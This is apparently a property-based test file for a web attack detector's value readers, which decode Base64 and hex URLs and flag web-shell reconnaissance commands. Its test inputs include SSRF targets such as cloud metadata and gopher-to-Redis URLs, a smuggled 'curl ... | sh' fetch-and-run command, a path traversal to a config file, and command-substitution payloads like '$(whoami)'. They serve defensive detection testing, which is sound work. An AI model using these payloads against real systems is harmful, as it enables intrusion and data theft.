/**
 * Readers every parameter and body value passes through (base64-url.ts, web-shell.ts), whose fast
 * paths allocate nothing for the common value: they give what their plain definitions give, on any
 * input. The definitions are written here as the readers were before their fast paths.
 */
import fc from "fast-check";
import { describe, expect, it } from "vitest";
import { base64Url, elfinderPath, hexText, pathBase64Urls, pathHexUrls } from "../../../core/signatures/base64-url.ts";
import { base64Text } from "../../../core/signatures/decoded-values.ts";
import { COMMAND_NAMES, RECON_COMMANDS, webShellCall } from "../../../core/signatures/web-shell.ts";

/** The definition: a Base64 value whose first 18 bytes open with a scheme, in UTF-8 or UTF-16LE. */
function plainBase64Url(value: string): string | null {
  const bin = (() => {
    const std = value.replaceAll("-", "+").replaceAll("_", "/").replace(/=+$/, "");
    try {
      return atob(std + "===".slice((std.length + 3) % 4));
    } catch {
      return null;
    }
  })();
  if (value.length < 16 || bin === null) return null;
  const opening = Array.from(bin.slice(0, 18), (ch) => ch.charCodeAt(0));
  const scheme = (bytes: number[]): boolean => {
    let k = 0;
    while (k < bytes.length && /[a-z]/i.test(String.fromCharCode(bytes[k] as number))) k++;
    return k >= 2 && k <= 8 && bytes[k] === 0x3a && bytes[k + 1] === 0x2f;
  };
  const oneLine = (t: string | null): string | null => (t === null || /[\r\n]/.test(t) ? null : t);
  if (scheme(opening)) return oneLine(base64Text(value));
  const even: number[] = [];
  for (let k = 0; k + 1 < opening.length && opening[k + 1] === 0; k += 2) even.push(opening[k] as number);
  if (opening[1] !== 0 || opening[3] !== 0 || !scheme(even)) return null;
  let out = "";
  for (let k = 0; k + 1 < bin.length; k += 2) {
    const c = bin.charCodeAt(k);
    if (bin.charCodeAt(k + 1) !== 0 || c < 0x20 || c > 0x7e) return null;
    out += String.fromCharCode(c);
  }
  return oneLine(out);
}

const RECON = [...RECON_COMMANDS];
const NAMES = [...COMMAND_NAMES];

/**
 * The definition: a lone reconnaissance command, trimmed and lower-cased, under a command parameter:
 * as it is, inside a substitution that is the whole value, or in short standard Base64.
 */
function plainWebShellCall(name: string, value: string): boolean {
  if (value.length < 2 || value.length > 16) return false;
  const leaf = (
    name.includes(".") || name.includes("[")
      ? name.slice(Math.max(name.lastIndexOf("."), name.lastIndexOf("[")) + 1)
      : name
  )
    .replace(/\]$/, "")
    .toLowerCase();
  const named = NAMES.includes(leaf);
  const recon = (s: string): boolean => RECON.includes(s.trim().toLowerCase());
  if (value.length <= 12 && recon(value)) return named;
  const v = value.trim();
  const inner = /^`([\s\S]+)`$/.exec(v)?.[1] ?? /^\$\(([\s\S]+)\)$/.exec(v)?.[1];
  if (inner !== undefined && "`$ ".includes(value[0] as string)) return recon(inner) && named;
  if (!/^[A-Za-z0-9+/]+={0,2}$/.test(value) || value.length % 4 !== 0) return false;
  try {
    return named && recon(atob(value));
  } catch {
    return false;
  }
}

const utf16le = (s: string): string => btoa(Array.from(s, (ch) => `${ch}\u0000`).join(""));
const urlish = fc.oneof(
  fc.webUrl(),
  fc.constantFrom("http://169.254.169.254/latest/meta-data/", "gopher://127.0.0.1:6379/_INFO", "file:///etc/passwd"),
  fc.string({ maxLength: 40 }),
);
const values = fc.oneof(
  fc.string({ maxLength: 48 }),
  urlish.map((u) => btoa(unescape(encodeURIComponent(u)))),
  urlish.map((u) =>
    btoa(unescape(encodeURIComponent(u)))
      .replaceAll("+", "-")
      .replaceAll("/", "_"),
  ),
  fc.webUrl().map(utf16le),
  fc.string({ unit: fc.constantFrom(..."ABCDEFabcdef0123456789+/=_-"), maxLength: 40 }),
);

describe("value readers' fast paths", () => {
  it("base64Url gives what its definition gives", () => {
    fc.assert(
      fc.property(values, (v) => {
        expect(base64Url(v)).toBe(plainBase64Url(v));
      }),
      { numRuns: 3000 },
    );
  });

  it("pathBase64Urls reads a segment up to its dot, in UTF-8 and UTF-16LE", () => {
    const b64 = (s: string): string => btoa(s).replaceAll("+", "-").replaceAll("/", "_").replace(/=+$/, "");
    expect(pathBase64Urls(`/rs:fit:512:512/${b64("http://metadata.google.internal/x")}.png`)).toEqual([
      "http://metadata.google.internal/x",
    ]);
    expect(pathBase64Urls(`/p/${utf16le("http://127.0.0.1/")}`)).toEqual(["http://127.0.0.1/"]);
    expect(pathBase64Urls(`/a/${b64("hello there, not a url")}/b`)).toEqual([]);
  });

  it("pathHexUrls, hexText and elfinderPath read what they did", () => {
    const hex = (s: string): string =>
      Array.from(new TextEncoder().encode(s), (b) => b.toString(16).padStart(2, "0")).join("");
    expect(pathHexUrls(`/camo/abc/${hex("http://10.0.0.1/x")}`)).toEqual(["http://10.0.0.1/x"]);
    expect(pathHexUrls(`/camo/abc/${hex("https://example.com/a.png")}/x`)).toEqual(["https://example.com/a.png"]);
    expect(pathHexUrls(`/camo/abc/${hex("http")}zz`)).toEqual([]);
    expect(hexText(hex("; curl http://x/y | sh"))).toBe("; curl http://x/y | sh");
    expect(hexText("0123456789abcdeF0123")).toBeNull();
    expect(hexText(`${hex("abcdefgh")}g`)).toBeNull();
    expect(elfinderPath("l1_Li4vLi4vY29uZmlnL2xvY2FsLnBocA")).toBe("../../config/local.php");
    expect(elfinderPath("L1_Li4vLi4vY29uZmlnL2xvY2FsLnBocA")).toBeNull();
    expect(elfinderPath("l_Li4vLi4vY29uZmlnL2xvY2FsLnBocA")).toBeNull();
  });

  it("webShellCall gives what its definition gives", () => {
    const name = fc.oneof(
      fc.constantFrom(...NAMES, "q", "Cmd", "a.cmd", "x[cmd]", "name"),
      fc.string({ maxLength: 8 }),
    );
    const value = fc.oneof(
      fc.string({ maxLength: 14 }),
      fc
        .constantFrom(...RECON)
        .chain((w) =>
          fc.tuple(
            fc.constantFrom("", " ", "\t", "\u00a0", "\n"),
            fc.constantFrom(w, w.toUpperCase(), w[0]?.toUpperCase() + w.slice(1)),
            fc.constantFrom("", " ", "\u3000"),
          ),
        )
        .map(([a, w, b]) => `${a}${w}${b}`),
      fc.constantFrom(
        "SKU-1234",
        "O'Brien",
        "blue",
        "Blue",
        "Id",
        " ID ",
        "`id`",
        "$(whoami)",
        " `uname` ",
        "aWQ=",
        "d2hvYW1p",
        "`ls`",
      ),
      fc.constantFrom(...RECON).map((w) => btoa(w)),
    );
    fc.assert(
      fc.property(name, value, (n, v) => {
        expect(webShellCall(n, v)).toBe(plainWebShellCall(n, v));
      }),
      { numRuns: 5000 },
    );
  });
});
